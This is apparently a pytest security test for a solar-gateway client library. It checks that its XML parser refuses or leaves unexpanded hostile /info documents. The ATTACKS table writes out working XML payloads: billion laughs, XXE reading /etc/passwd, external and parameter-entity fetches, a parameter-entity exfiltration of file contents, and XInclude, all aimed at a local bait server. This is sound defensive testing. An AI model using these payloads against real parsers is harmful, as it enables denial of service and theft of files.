"""``/info`` XML attacks through GatewaySession: refused or left unexpanded, and no network access.

Each hostile document is served as ``/info`` by a local server, in UTF-8 and in UTF-16 (which
hides ``<!DOCTYPE`` from a byte search), as ``text/xml`` and as ``application/json`` (as some
3.x firmware labels it). Every URL in the documents points at a bait server on 127.0.0.1 that
counts connections, or at a canary file: a fetch or an expansion would show in the bait's
count or in the parsed model. (The libxml2 bundled with lxml 6 has no HTTP client at all; the
bait still guards against builds that have one, and against resolvers added later.)
"""

from __future__ import annotations

import secrets
from collections.abc import Callable
from pathlib import Path

import pytest

from enphase_local.errors import PayloadError
from enphase_local.models import Info
from enphase_local.session import GatewaySession
from tests.reliability import tally
from tests.reliability.rawserver import RawServer, whole

_BODY = "<device><sn>122125067699</sn><software>D5.0.62</software>{extra}</device>"
_LOL = '"' + "&lol;" * 10 + '"'
_LAUGHS = (
    '<!ENTITY lol "lol">'
    + "".join(
        f"<!ENTITY lol{n} {_LOL.replace('lol;', f'lol{n - 1};' if n > 1 else 'lol;')}>"
        for n in range(1, 10)
    )
    + '<!ENTITY x "&lol9;">'
)


def _doc(dtd: str = "", *, extra: str = "", root_attrs: str = "", prolog: str = "") -> str:
    doctype = f"<!DOCTYPE envoy_info {dtd}>" if dtd else ""
    body = _BODY.format(extra=extra)
    return f'<?xml version="1.0"?>{prolog}{doctype}<envoy_info{root_attrs}>{body}</envoy_info>'


#: ``name -> document(bait URL, canary path)``.
ATTACKS: dict[str, Callable[[str, Path], str]] = {
    "billion laughs": lambda bait, canary: _doc(f"[{_LAUGHS}]", extra="<pn>&x;</pn>"),
    "quadratic blowup": lambda bait, canary: _doc(
        f'[<!ENTITY big "{"B" * 50_000}">]', extra="<pn>" + "&big;" * 2_000 + "</pn>"
    ),
    "external entity /etc/passwd": lambda bait, canary: _doc(
        '[<!ENTITY x SYSTEM "file:///etc/passwd">]', extra="<pn>&x;</pn>"
    ),
    "external entity canary file": lambda bait, canary: _doc(
        f'[<!ENTITY x SYSTEM "file://{canary}">]', extra="<pn>&x;</pn>"
    ),
    "external entity over http": lambda bait, canary: _doc(
        f'[<!ENTITY x SYSTEM "{bait}/entity">]', extra="<pn>&x;</pn>"
    ),
    "external DTD over http": lambda bait, canary: _doc(f'SYSTEM "{bait}/external.dtd"'),
    "public DTD over http": lambda bait, canary: _doc(f'PUBLIC "-//X//DTD X//EN" "{bait}/p.dtd"'),
    "parameter entity over http": lambda bait, canary: _doc(
        f'[<!ENTITY % p SYSTEM "{bait}/parameter.dtd"> %p;]', extra="<pn>&x;</pn>"
    ),
    "parameter entity exfiltration": lambda bait, canary: _doc(
        f'[<!ENTITY % file SYSTEM "file://{canary}">'
        f"<!ENTITY % all \"<!ENTITY send SYSTEM '{bait}/?%file;'>\"> %all;]",
        extra="<pn>&send;</pn>",
    ),
    "entity in an attribute": lambda bait, canary: _doc(
        f"[{_LAUGHS}]",
        extra="<pn>1</pn></device><package name='&x;'><version>1</version></package><device>",
    ),
    "xinclude": lambda bait, canary: _doc(
        root_attrs=' xmlns:xi="http://www.w3.org/2001/XInclude"',
        extra=f'<pn><xi:include href="{bait}/xi"/><xi:include href="file://{canary}" '
        'parse="text"/></pn>',
    ),
    "schema location": lambda bait, canary: _doc(
        root_attrs=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:noNamespaceSchemaLocation="{bait}/schema.xsd"'
    ),
    "stylesheet instruction": lambda bait, canary: _doc(
        prolog=f'<?xml-stylesheet type="text/xsl" href="{bait}/style.xsl"?>'
    ),
    "undeclared entity": lambda bait, canary: _doc(extra="<pn>&x;</pn>"),
}

ENCODINGS = ("utf-8", "utf-16")
CONTENT_TYPES = ("text/xml", "application/json")


def _encoded(document: str, encoding: str) -> bytes:
    if encoding == "utf-8":
        return document.encode()
    return document.replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>', 1).encode(
        encoding
    )


def _unexpanded(info: Info, canary_text: str) -> None:
    text = repr(info)
    assert canary_text not in text
    assert "root:" not in text
    assert "lollollol" not in text
    assert "BBBB" not in text
    assert len(text) < 5_000  # the document's own size: nothing grew


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
async def test_hostile_info_is_refused_or_unexpanded_without_network_access(
    attack: str, tmp_path: Path
) -> None:
    canary_text = f"CANARY-{secrets.token_hex(8)}"
    canary = tmp_path / "canary.txt"
    canary.write_text(canary_text)
    async with RawServer() as bait:
        document = ATTACKS[attack](bait.url, canary)
        for encoding in ENCODINGS:
            for content_type in CONTENT_TYPES:
                body = _encoded(document, encoding)
                routes = {"/info": whole(body, content_type=content_type)}
                async with RawServer(routes) as gateway, GatewaySession(gateway.url) as session:
                    tally.count("hostile /info documents")
                    try:
                        info = await session.info()
                    except PayloadError:
                        pass
                    else:
                        # No gateway sends a DTD: a document with one is never accepted.
                        assert "<!DOCTYPE" not in document, f"{attack} ({encoding}) accepted"
                        _unexpanded(info, canary_text)
                    assert gateway.requests == [("GET", "/info")]
        assert bait.connections == 0, f"{attack}: the parser reached out to {bait.requests}"
